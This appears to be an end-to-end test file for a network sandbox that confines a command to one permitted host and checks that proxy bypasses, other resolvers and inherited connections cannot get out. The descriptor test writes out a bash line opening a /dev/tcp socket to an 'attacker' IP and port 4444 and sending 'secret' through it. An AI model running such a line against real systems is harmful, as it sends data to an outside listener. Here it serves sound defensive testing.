/** Ignoring what the environment suggests, and descriptors that were open before: the network that is there is the only one. */
import assert from 'node:assert/strict';
import { chmod, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { type Lab, startLab } from '@cofferdam/testkit/lab';
import { agentPolicy } from './agent-policy.ts';
import { otherRoutes } from './attacks/routes.ts';
import { cofferdam, containedUnavailable, runContained } from './contained.ts';

const user = 61_234;
const policy = agentPolicy({
  web: { permitted: ['example.com'] },
  rules: ['web: [permitted], protocol: tcp, ports: [443]'],
});

describe('no other way', { skip: containedUnavailable(), timeout: 60_000 }, () => {
  let lab: Lab;
  let scratch: string;
  before(async () => {
    lab = await startLab({ daemons: ['resolver', 'resolver2'] });
    scratch = await mkdtemp(join(tmpdir(), 'cofferdam-e2e-'));
    await chmod(scratch, 0o777);
  });
  after(async () => {
    await lab?.stop();
    if (scratch !== undefined) await rm(scratch, { recursive: true, force: true });
  });

  test('no proxy, another proxy, another resolver', async () => {
    const since = await lab.mark();
    const through = ['curl', '-sS', '-m', '5', '-o', '/dev/null', '--noproxy', '*', 'https://www.example.com/'];
    const { stdout, records } = await runContained(lab, {
      policy,
      user,
      command: ['sh', '-c', [...otherRoutes, 'exit 0'].join('; ')],
      env: { https_proxy: undefined },
      timeout: 60_000,
    });
    assert.match(stdout, /^permitted/);
    const arrivals = await lab.arrivals({ since });
    assert.deepEqual(
      [...new Set(arrivals.map(({ server }) => server))].sort(),
      ['resolver', 'web'],
      'only the resolver and the permitted name',
    );
    assert.ok(arrivals.every((arrival) => arrival.kind !== 'tls' || arrival.sni === 'example.com'));
    assert.ok(arrivals.every((arrival) => arrival.kind !== 'query' || arrival.name === 'example.com'));
    assert.ok(records.some((record) => record.kind === 'dns' && record.reason === 'dns-not-permitted'));
    assert.ok(records.some((record) => record.kind === 'flow' && record.reason === 'no-rule'));
    const again = await lab.mark();
    assert.equal((await lab.exec('host', through, { env: lab.ca.environment })).code, 0);
    assert.ok((await lab.arrivals({ since: again, name: 'www.example.com' })).length > 0, 'control');
  });

  test('descriptors that the caller had open', async () => {
    const file = join(scratch, 'policy.yaml');
    await writeFile(file, policy);
    const since = await lab.mark();
    // A connection, a listening directory and a file for writing, opened by whoever starts the run.
    const opened = `exec 9<>/dev/tcp/45.83.64.10/4444; exec 8</; exec 7>>${join(scratch, 'left')}; `;
    const use = `for fd in 5 6 7 8 9 10 11 12 13 14 15; do [ -e /proc/self/fd/$fd ] && echo "$fd is open"; done; echo secret >&9 && echo reached`;
    const control = await lab.exec('host', ['bash', '-c', `${opened}exec bash -c '${use}'`]);
    assert.match(control.stdout, /9 is open\nreached/);
    const held = await lab.exec(
      'host',
      ['bash', '-c', `${opened}exec ${cofferdam} run -q --policy ${file} -- bash -c '${use}'`],
      {
        env: { SUDO_UID: String(user), SUDO_GID: String(user) },
      },
    );
    assert.equal(held.stdout, '');
    const received = (await lab.arrivals({ since, server: 'attacker', kind: 'close' })).map((a) =>
      a.kind === 'close' ? a.received : 0,
    );
    assert.deepEqual(received.sort(), [0, 7]);
  });
});
